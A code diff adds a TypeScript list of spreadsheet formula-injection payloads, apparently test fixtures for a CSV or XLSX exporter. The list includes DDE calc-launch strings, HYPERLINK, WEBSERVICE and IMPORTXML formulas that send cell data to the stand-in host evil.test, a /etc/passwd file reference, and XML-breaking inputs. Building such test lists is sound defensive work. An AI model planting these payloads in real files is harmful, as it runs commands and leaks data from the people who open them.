@@ -1,0 +1,32 @@
+/** Texts that a spreadsheet could take for a formula or a link, or that break a careless file. */
+export const payloads: string[] = [
+  ...['=', '+', '-', '@', '\t', '\r', '|', ' =', "'=", '"=', ';=', ',='].flatMap((start) =>
+    [
+      '1+1',
+      'SUM(A1:A9)',
+      "cmd|' /C calc'!A0",
+      'HYPERLINK("http://evil.test/?"&A1,"Bu yerga")',
+      'WEBSERVICE("http://evil.test/")',
+      'IMPORTXML("http://evil.test","//a")',
+      'DDE("cmd";"/C calc";"__")',
+      '2+5+cmd|calc!A0',
+      "'file:///etc/passwd'#$passwd.A1",
+      'A1:B2,"x"\r\n=1+1',
+      '10',
+      '998901234567',
+      'x',
+      '"',
+      '""',
+      "'",
+      '<f>1+1</f>',
+      '</t></is></c><c><f>1+1</f></c>',
+      '&lt;f&gt;',
+      '_x003D_1+1',
+      '_x000D_',
+      '%0A=1+1',
+      'Oʻgʻiloy Қаҳрамон',
+      ' ',
+      '',
+    ].map((rest) => start + rest),
+  ),
+]
